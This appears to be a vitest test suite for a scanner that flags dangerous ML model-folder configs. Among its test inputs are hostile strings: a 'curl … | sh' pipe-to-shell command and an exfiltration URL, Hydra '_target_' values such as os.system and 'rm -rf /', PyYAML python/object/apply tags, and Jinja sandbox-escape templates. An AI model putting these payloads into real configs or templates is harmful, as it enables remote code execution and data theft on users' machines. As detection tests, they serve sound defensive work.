// Config scanner: each attack a model-folder config can carry, scanned through the public scan() —
// real-shaped fixtures (fixtures/config, see MANIFEST.md) and variants built in code.
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { scan, fromBytes, SEVERITY_RANK, type FileReport } from '../../src/engine';
import { encodeUtf8 } from '../../src/engine/io/text';

const FIX = join(process.cwd(), 'fixtures', 'config');
const fixture = (rel: string) => scan(fromBytes(new Uint8Array(readFileSync(join(FIX, rel))), rel.split('/').pop()!));
const text = (t: string, name: string) => scan(fromBytes(encodeUtf8(t), name));
const json = (o: unknown, name = 'config.json') => text(JSON.stringify(o, null, 2), name);
const worst = (r: FileReport) => Math.max(-1, ...r.findings.map((f) => SEVERITY_RANK[f.severity]));
const of = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);

describe('config: transformers remote code (auto_map, trust_remote_code)', () => {
  it('Phi-3 config.json with a local auto_map → WARNING config/remote-code per entry', async () => {
    const r = await fixture('benign/config.json');
    expect(r.format).toBe('config');
    const hits = of(r, 'config/remote-code');
    expect(hits.map((f) => f.location.pointer)).toEqual(['/auto_map/AutoConfig', '/auto_map/AutoModelForCausalLM']);
    expect(hits.every((f) => f.severity === 'warning')).toBe(true);
    expect(hits[1]!.evidence).toBe('modeling_phi3.Phi3ForCausalLM');
    expect(worst(r)).toBe(SEVERITY_RANK.warning);
    expect(r.nodes[0]!.notes?.modelType).toBe('phi3');
  });

  it('auto_map into another repository ("org/repo--module.Class") → CRITICAL config/remote-code', async () => {
    const r = await fixture('malicious/cross-repo-config.json');
    const hits = of(r, 'config/remote-code');
    expect(hits).toHaveLength(3);
    expect(hits.every((f) => f.severity === 'critical' && f.severityReason)).toBe(true);
    expect(hits[0]!.message).toContain('jinaai/jina-bert-implementation');
  });

  it('auto_map list values (AutoTokenizer [slow, fast]) are each judged, nulls skipped', async () => {
    const r = await json({ model_type: 'x', auto_map: { AutoTokenizer: ['evil/repo--tok.Slow', null] } }, 'adapter_config.json');
    const hits = of(r, 'config/remote-code');
    expect(hits.map((f) => [f.location.pointer, f.severity])).toEqual([['/auto_map/AutoTokenizer/0', 'critical']]);
  });

  it('custom_pipelines impl (pipeline() loads it like auto_map; was silent) → WARNING; from another repository → CRITICAL', async () => {
    const r = await json({ model_type: 'bert', custom_pipelines: {
      'pair-classification': { impl: 'custom_pipeline.PairClassificationPipeline', pt: ['AutoModelForSequenceClassification'], tf: [] },
      'text-evil': { impl: 'evil/repo--pipe.Evil', pt: [] } } });
    expect(of(r, 'config/remote-code').map((f) => [f.location.pointer, f.severity]).sort()).toEqual([
      ['/custom_pipelines/pair-classification/impl', 'warning'], ['/custom_pipelines/text-evil/impl', 'critical']]);
    expect(of(r, 'config/remote-code').find((f) => f.severity === 'critical')!.message)
      .toContain('custom_pipelines text-evil loads pipe.Evil from another repository, evil/repo');
  });

  it('trust_remote_code: true in YAML → WARNING; false → nothing', async () => {
    const r = await text('model:\n  name: x\n  trust_remote_code: true\n', 'train.yaml');
    expect(of(r, 'config/remote-code').map((f) => [f.location.pointer, f.severity])).toEqual([['/model/trust_remote_code', 'warning']]);
    expect(of(await text('trust_remote_code: false\n', 'train.yml'), 'config/remote-code')).toEqual([]);
  });
});

describe('config: Hydra/NeMo _target_ (CVE-2025-23304)', () => {
  it('NeMo model_config.yaml with nemo/torch targets stays clean', async () => {
    const r = await fixture('benign/model_config.yaml');
    expect(r.format).toBe('config');
    expect(r.findings).toEqual([]);
  });

  it('_target_: os.system → CRITICAL config/dangerous-target at its pointer', async () => {
    const r = await fixture('malicious/nemo-os-system.yaml');
    const hits = of(r, 'config/dangerous-target');
    expect(hits.map((f) => [f.location.pointer, f.severity, f.evidence])).toEqual([['/preprocessor/_target_', 'critical', 'os.system']]);
  });

  it('_target_: subprocess.Popen with _partial_ → CRITICAL, message says partial', async () => {
    const r = await fixture('malicious/hydra-subprocess.yaml');
    const [hit] = of(r, 'config/dangerous-target');
    expect(hit?.severity).toBe('critical');
    expect(hit?.message).toContain('partial');
  });

  it.each([
    ['builtins.eval', 'critical'], ['eval', 'critical'], ['importlib.import_module', 'critical'],
    ['shutil.rmtree', 'critical'], ['mypkg.callbacks.Upload', 'warning'], ['torch.optim.AdamW', null],
    ['pytorch_lightning.callbacks.ModelCheckpoint', null], ['not a path; rm -rf /', 'warning'],
  ])('_target_ %s → %s', async (target, severity) => {
    const r = await text(`cb:\n  _target_: ${JSON.stringify(target)}\n`, 'config.yaml');
    const hits = of(r, 'config/dangerous-target');
    expect(hits.map((f) => f.severity)).toEqual(severity ? [severity] : []);
  });

  it('a _target_ hidden behind a YAML alias is still judged', async () => {
    const r = await text('x: &t os.system\ncb:\n  _target_: *t\n', 'config.yaml');
    expect(of(r, 'config/dangerous-target').map((f) => f.location.pointer)).toEqual(['/cb/_target_']);
  });

  it('LightningCLI class_path: subprocess.run → CRITICAL; in JSON too', async () => {
    const r = await text('trainer:\n  callbacks:\n    - class_path: subprocess.run\n', 'config.yml');
    expect(of(r, 'config/dangerous-target').map((f) => f.location.pointer)).toEqual(['/trainer/callbacks/0/class_path']);
    const j = await json({ cb: { _target_: 'os.popen' } }, 'run.json');
    expect(j.format).toBe('config');
    expect(of(j, 'config/dangerous-target')[0]?.severity).toBe('critical');
  });
});

describe('config: YAML loader attacks', () => {
  it('PyYAML !!python/object/apply:posix.system (written by yaml.dump) → CRITICAL config/python-yaml-tag', async () => {
    const r = await fixture('malicious/python-object-apply.yaml');
    const hits = of(r, 'config/python-yaml-tag');
    expect(hits.map((f) => [f.location.pointer, f.severity, f.evidence])).toEqual([['/model/callback', 'critical', '!!python/object/apply:posix.system']]);
  });

  it.each(['!!python/object:__main__.Evil {}', '!!python/name:os.system ""', '!<tag:yaml.org,2002:python/module:os> ""'])(
    'tag %s → CRITICAL', async (v) => {
      const r = await text(`x: ${v}\n`, 'a.yaml');
      expect(of(r, 'config/python-yaml-tag')[0]?.severity).toBe('critical');
    });

  it('billion laughs → WARNING config/yaml-alias-bomb, scanned in bounded time', async () => {
    const t0 = Date.now();
    const r = await fixture('malicious/billion-laughs.yaml');
    expect(of(r, 'config/yaml-alias-bomb').map((f) => f.severity)).toEqual(['warning']);
    expect(Date.now() - t0).toBeLessThan(2000);
  });

  it('a few ordinary anchors are not a bomb', async () => {
    const r = await text('base: &b {lr: 0.1}\na: *b\nb: *b\n', 'c.yaml');
    expect(r.findings).toEqual([]);
  });

  it('chat_template inside a YAML config goes to the jinja scanner', async () => {
    const r = await text(`chat_template: "{{ ''.__class__.__mro__[1].__subclasses__() }}"\n`, 'model.yaml');
    expect(r.findings.some((f) => f.ruleId.startsWith('jinja/') && f.severity === 'critical')).toBe(true);
    expect(r.nodes.some((n) => n.format === 'jinja')).toBe(true);
  });
});

describe('config: strings and secrets in values', () => {
  it('URL to an unexpected host and a shell command in values → WARNING with JSON pointers', async () => {
    const r = await json({ model_type: 'x', hub: { remote: 'http://exfil.example-bad.top/x', post: 'curl http://1.2.3.4/a | sh' } });
    expect(of(r, 'strings/url').some((f) => f.location.pointer === '/hub/remote')).toBe(true);
    expect(of(r, 'strings/shell-command')[0]?.location.pointer).toBe('/hub/post');
  });

  it('INI and TOML values are inspected too', async () => {
    const ini = await text('[hub]\ntoken = ghp_FAKEfakeFAKEfake0123456789EXAMPLEabc\n', 'settings.ini');
    expect(of(ini, 'strings/secret')[0]?.location.pointer).toBe('/hub/token');
    const toml = await text('[db]\nurl = "postgres://admin:fake-pass-123@db.invalid/models"\n', 'conf.toml');
    expect(of(toml, 'strings/secret')[0]?.location.pointer).toBe('/db/url');
  });

  it('secrets fixture: every fake credential is found, none echoed in full', async () => {
    const r = await fixture('malicious/secrets-config.json');
    const hits = of(r, 'strings/secret');
    expect(hits.map((f) => f.message.replace(/ in .*/, '')).sort()).toEqual([
      'AWS access key id', 'AWS secret access key', 'Anthropic API key', 'Azure storage account key', 'Database URL with a password',
      'GCP API key', 'GitHub token', 'GitLab token', 'Hugging Face token', 'JSON Web Token', 'OpenAI API key', 'PEM private key', 'Slack token',
    ]);
    const raw = readFileSync(join(FIX, 'malicious/secrets-config.json'), 'utf8');
    const values = [...raw.matchAll(/": "([^"]{16,})"/g)].map((m) => m[1]!);
    for (const f of r.findings) for (const v of values) if (!/^[a-z_]+$/.test(v)) expect(f.evidence ?? '').not.toContain(v);
  });
});

describe('config: benign files, naming, malformed input', () => {
  it.each(['benign/generation_config.json', 'benign/setup.cfg', 'benign/pyproject.toml'])('%s → config, no findings', async (f) => {
    const r = await fixture(f);
    expect(r.format).toBe('config');
    expect(r.findings).toEqual([]);
  });

  it('tokenizer_config.json with auto_map → config/remote-code; its chat template is scanned as a jinja child', async () => {
    const r = await json({ chat_template: "{{ cycler.__init__.__globals__.os.popen('id') }}", auto_map: { AutoTokenizer: 'tok.T' } }, 'tokenizer_config.json');
    expect(r.format).toBe('config');
    expect(of(r, 'config/remote-code')[0]?.location.pointer).toBe('/auto_map/AutoTokenizer');
    const t = r.findings.find((f) => f.ruleId === 'jinja/dunder-access')!;
    expect(t.location.path).toEqual(['tokenizer_config.json', 'tokenizer_config.json#/chat_template']);
    expect(r.nodes.find((n) => n.format === 'jinja')).toBeDefined();
  });

  it('other JSON without actionable keys is not claimed', async () => {
    expect((await json({ a: 1 }, 'vocab.json')).format).not.toBe('config');
  });

  it.each(['malformed/unclosed-flow.yaml', 'malformed/truncated/config.json', 'malformed/bad-line.toml'])(
    '%s → format/malformed, status error, never CRITICAL', async (f) => {
      const r = await fixture(f);
      expect(r.status).toBe('error');
      expect(of(r, 'format/malformed')).toHaveLength(1);
      expect(worst(r)).toBeLessThan(SEVERITY_RANK.critical);
    });

  it('duplicate YAML keys are malformed (loaders disagree on which wins)', async () => {
    const r = await text('a: 1\na: 2\n', 'x.yaml');
    expect(of(r, 'format/malformed')).toHaveLength(1);
  });
});

describe('config: mutated fixtures never crash the scan', () => {
  it('truncated / bit-flipped configs end as a report (scanned or malformed), never an internal error', async () => {
    const { default: fc } = await import('fast-check');
    const files = ['benign/config.json', 'benign/model_config.yaml', 'benign/pyproject.toml', 'benign/setup.cfg',
      'malicious/python-object-apply.yaml', 'malicious/billion-laughs.yaml'];
    await fc.assert(fc.asyncProperty(fc.constantFrom(...files), fc.nat(), fc.integer({ min: 0, max: 255 }), fc.boolean(), async (f, at, byte, cut) => {
      const bytes = new Uint8Array(readFileSync(join(FIX, f)));
      const i = at % bytes.length;
      const mutated = cut ? bytes.subarray(0, i) : bytes.map((b, k) => (k === i ? byte : b));
      const r = await scan(fromBytes(mutated, f.split('/').pop()!));
      expect(r.findings.some((x) => x.ruleId === 'scan/internal-error')).toBe(false);
    }), { numRuns: Number(process.env.FUZZ_RUNS ?? 300), seed: 5 });
  });
});
